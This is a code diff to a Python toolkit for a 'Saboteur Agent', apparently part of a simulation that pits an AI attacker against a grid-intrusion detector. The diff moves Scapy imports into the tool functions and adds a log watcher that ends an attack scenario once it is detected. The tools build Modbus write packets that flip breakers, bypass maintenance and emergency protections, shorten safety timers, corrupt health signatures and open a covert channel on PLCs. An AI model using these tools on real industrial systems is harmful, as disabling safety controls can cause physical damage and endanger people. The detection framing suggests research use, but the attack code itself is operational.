@@ -1,16 +1,14 @@
 import time
-import requests
-import base64
+from datetime import datetime
 from langchain_core.tools import tool
-from scapy.all import send
-from scapy.layers.inet import TCP, IP
-from scapy.contrib.modbus import ModbusADURequest, ModbusPDU10WriteMultipleRegistersRequest
 from shared_tools import analyze_document
+from log_watcher import log_watcher
 
 # --- OT_Forge Toolkit for the Saboteur Agent ---
 # This toolkit contains the specialized functions for crafting and disguising
 # attacks against Operational Technology (OT) systems like PLCs.
 # Note: analyze_document is imported from shared_tools for consistency across agents
+# Note: Scapy is imported inside each tool so it is only loaded on first use
 
 @tool
 def craft_modbus_exploit_packet(target_ip: str, plc_register: int, value: int) -> str:
@@ -31,6 +29,9 @@ def craft_modbus_exploit_packet(target_ip: str, plc_register: int, value: int) -
     # This simulates an exploit by directly commanding the PLC to change its state.
     # We assume register 40001 is the breaker control for this scenario.
     
+    from scapy.layers.inet import TCP, IP
+    from scapy.contrib.modbus import ModbusADURequest, ModbusPDU10WriteMultipleRegistersRequest
+
     # Layer 3: Modbus Protocol Data Unit (PDU) - The core command
     pdu = ModbusPDU10WriteMultipleRegistersRequest(
         startingAddr=plc_register,
@@ -600,6 +601,7 @@ def maintenance_override_bypass(target_ip: str) -> str:
     # Value: 0xDEADBEEF (3735928559 in decimal)
     
     # Craft the Modbus write command using Scapy
+    from scapy.layers.inet import TCP, IP
     from scapy.contrib.modbus import ModbusADURequest, ModbusPDU06WriteSingleRegisterRequest
     
     # Create the PDU for writing single register
@@ -650,6 +652,7 @@ def manipulate_safety_timer(target_ip: str, timer_value: int = 50) -> str:
         timer_value = max(50, min(500, timer_value))
     
     # Target: %MD16 (safety_timer_preset register) - Modbus address 16
+    from scapy.layers.inet import TCP, IP
     from scapy.contrib.modbus import ModbusADURequest, ModbusPDU06WriteSingleRegisterRequest
     
     # Create the PDU for writing single register
@@ -697,6 +700,7 @@ def activate_emergency_bypass(target_ip: str, enable: bool = True) -> str:
     print(f"--- SABOTEUR/TOOL (EmergencyBypass): {'Activating' if enable else 'Deactivating'} emergency bypass on {target_ip}... ---")
     
     # Target: %QX0.5 (emergency_bypass output) - Modbus coil 5
+    from scapy.layers.inet import TCP, IP
     from scapy.contrib.modbus import ModbusADURequest, ModbusPDU05WriteSingleCoilRequest
     
     # Create the PDU for writing single coil
@@ -743,6 +747,7 @@ def corrupt_system_health_signature(target_ip: str, corruption_value: int = 1234
     print(f"--- SABOTEUR/TOOL (HealthCorruption): Corrupting system health signature on {target_ip}... ---")
     
     # Target: %MD20 (health_signature register) - Modbus address 20
+    from scapy.layers.inet import TCP, IP
     from scapy.contrib.modbus import ModbusADURequest, ModbusPDU06WriteSingleRegisterRequest
     
     # Create the PDU for writing single register
@@ -796,6 +801,7 @@ def establish_covert_channel(target_ip: str, enable_debug: bool = True, monitor_
     
     if enable_debug:
         # Target: %QX0.6 (debug_mode) - Modbus coil 6
+        from scapy.layers.inet import TCP, IP
         from scapy.contrib.modbus import ModbusADURequest, ModbusPDU05WriteSingleCoilRequest
         
         # Create the PDU for enabling debug mode
@@ -814,6 +820,7 @@ def establish_covert_channel(target_ip: str, enable_debug: bool = True, monitor_
     
     if monitor_channel:
         # Monitor covert channel data at address 24
+        from scapy.layers.inet import TCP, IP
         from scapy.contrib.modbus import ModbusADURequest, ModbusPDU03ReadHoldingRegistersRequest
         
         # Create the PDU for reading covert channel data
@@ -920,9 +927,13 @@ def execute_attack_scenario(target_ip: str, scenario_name: str, execution_delay:
     }
     
     print(f"--- SABOTEUR/SCENARIO: Starting execution of {len(scenario_steps)} steps ---")
+    # Delays end early when the log watcher publishes a detection after this point
+    detections_seen = log_watcher.published
     
     for step_num, step in enumerate(scenario_steps, 1):
         print(f"--- SABOTEUR/SCENARIO: Step {step_num}/{len(scenario_steps)}: {step['description']} ---")
+        # Full start time of the step, for joining it with detector anomalies on the mission timeline
+        step_started = datetime.now().isoformat(sep=" ", timespec="microseconds")
         
         try:
             # Execute the step
@@ -934,19 +945,29 @@ def execute_attack_scenario(target_ip: str, scenario_name: str, execution_delay:
                 "command": step.get("command", "N/A"),
                 "result": step_result,
                 "status": "success",
-                "timestamp": time.strftime("%H:%M:%S")
+                "timestamp": time.strftime("%H:%M:%S"),
+                "started_at": step_started
             })
             
             print(f"--- SABOTEUR/SCENARIO: Step {step_num} completed successfully ---")
             
             # Handle timing/delays
+            detections = []
             if step.get("delay_after", 0) > 0:
                 delay = step["delay_after"]
                 print(f"--- SABOTEUR/SCENARIO: Waiting {delay}s before next step ---")
-                time.sleep(delay)
+                detections = log_watcher.sleep(delay, since=detections_seen)
             elif step_num < len(scenario_steps):  # Don't delay after last step
                 print(f"--- SABOTEUR/SCENARIO: Standard delay {execution_delay}s ---")
-                time.sleep(execution_delay)
+                detections = log_watcher.sleep(execution_delay, since=detections_seen)
+
+            # No point finishing a scenario the detector has already caught
+            if detections and log_watcher.interrupts:
+                print(f"--- SABOTEUR/SCENARIO: Detected by GridGuardian, skipping the remaining "
+                      f"{len(scenario_steps) - step_num} step(s) ---")
+                execution_log["execution_status"] = "detected"
+                execution_log["detections"] = len(detections)
+                break
                 
         except Exception as e:
             error_msg = f"Step {step_num} failed: {str(e)}"
@@ -958,7 +979,8 @@ def execute_attack_scenario(target_ip: str, scenario_name: str, execution_delay:
                 "command": step.get("command", "N/A"),
                 "result": error_msg,
                 "status": "failed",
-                "timestamp": time.strftime("%H:%M:%S")
+                "timestamp": time.strftime("%H:%M:%S"),
+                "started_at": step_started
             })
             
             # Decide whether to continue or abort